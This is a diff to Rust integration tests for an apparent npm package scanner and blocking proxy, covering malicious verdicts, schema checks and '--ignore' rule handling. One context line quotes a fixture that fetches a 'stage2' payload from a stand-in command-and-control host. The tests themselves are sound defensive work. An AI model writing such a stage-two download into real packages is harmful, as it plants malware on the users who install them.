@@ -188,6 +188,7 @@ fn npm_hijacked_update_is_caught() {
         String::from_utf8_lossy(&out.stderr)
     );
     let report = json_of(&out);
+    common::assert_schema("scan_report", &report);
     let pkg = &report["packages"][0];
     assert_eq!(pkg["version"], "1.0.1", "the latest tag is scanned");
     assert_eq!(pkg["verdict"], "malicious", "{pkg:#}");
@@ -291,6 +292,7 @@ fn npm_diff_reports_the_update() {
         String::from_utf8_lossy(&out.stderr)
     );
     let d = json_of(&out);
+    common::assert_schema("diff_report", &d);
     assert_eq!(d["old"]["version"], "1.0.0");
     assert_eq!(d["new"]["version"], "1.0.1");
     assert_eq!(d["verdict"]["level"], "malicious");
@@ -819,8 +821,10 @@ fn audit_npm_project_with_the_loopback_registry() {
         String::from_utf8_lossy(&out.stderr)
     );
     let r = json_of(&out);
+    common::assert_schema("audit_report", &r);
     let helper = by_name(&r, "crypto-helper-js");
     assert_eq!(helper["verdict"], "malicious");
+    audit_ignores(dir.path(), &env, helper);
     assert_eq!(helper["policy"]["decision"], "block");
     assert_eq!(
         helper["dependency_path"],
@@ -3146,4 +3150,86 @@ http.get('http://c2.example.invalid/stage2', (res) => {
         "{cut}"
     );
     assert_eq!(out.status.code(), Some(1), "{r}");
+}
+
+/// `audit --ignore` of every rule a dependency triggers: its findings are listed as
+/// ignored and no longer block it.
+fn audit_ignores(dir: &Path, env: &[(&'static str, String)], helper: &Value) {
+    let mut rules: Vec<&str> = helper["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    rules.sort_unstable();
+    rules.dedup();
+    let mut args = vec!["audit", "app", "--format", "json"];
+    for r in &rules {
+        args.extend(["--ignore", *r]);
+    }
+    let r = json_of(&run(dir, &args, env));
+    common::assert_schema("audit_report", &r);
+    let helper = by_name(&r, "crypto-helper-js");
+    assert_eq!(helper["verdict"], "clean", "{helper:#}");
+    assert_ne!(helper["policy"]["decision"], "block", "{helper:#}");
+    let ignored = helper["ignored"].as_array().unwrap();
+    assert!(
+        !ignored.is_empty() && ignored.iter().all(|i| i["by"] == "--ignore"),
+        "{helper:#}"
+    );
+}
+
+/// The proxy with `--ignore`: the rules a malicious tarball triggers, ignored, let it
+/// through; the verdict stored without them does not answer for the proxy that ignores
+/// them (on the same store), nor the other way round.
+#[test]
+fn proxy_applies_ignored_rules() {
+    let server = Loopback::start();
+    npm_registry(&server);
+    let dir = tempfile::tempdir().unwrap();
+    let env = store_and_cache(dir.path());
+    let mut scan_env = npm_env(&server, &dir.path().join("scan-cache"));
+    scan_env.extend(env.iter().cloned());
+    let scanned = json_of(&run(
+        dir.path(),
+        &[
+            "scan",
+            "--format",
+            "json",
+            "--no-history",
+            "npm:crypto-helper-js@4.2.1",
+        ],
+        &scan_env,
+    ));
+    let mut rules: Vec<&str> = scanned["packages"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    rules.sort_unstable();
+    rules.dedup();
+    assert!(!rules.is_empty(), "{scanned:#}");
+    let upstream = format!("{}/npm/", server.url);
+    let file = "/npm/crypto-helper-js/-/crypto-helper-js-4.2.1.tgz";
+
+    let strict = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
+    assert_eq!(fetch_url(&strict.url, file).0, 403);
+    drop(strict);
+
+    let mut args = vec!["--npm-upstream", upstream.as_str()];
+    for r in &rules {
+        args.extend(["--ignore", *r]);
+    }
+    let lenient = start_proxy(dir.path(), &args, &env);
+    let (status, body) = fetch_url(&lenient.url, file);
+    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
+    drop(lenient);
+
+    let strict = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
+    assert_eq!(
+        fetch_url(&strict.url, file).0,
+        403,
+        "the stored verdict stays strict"
+    );
 }
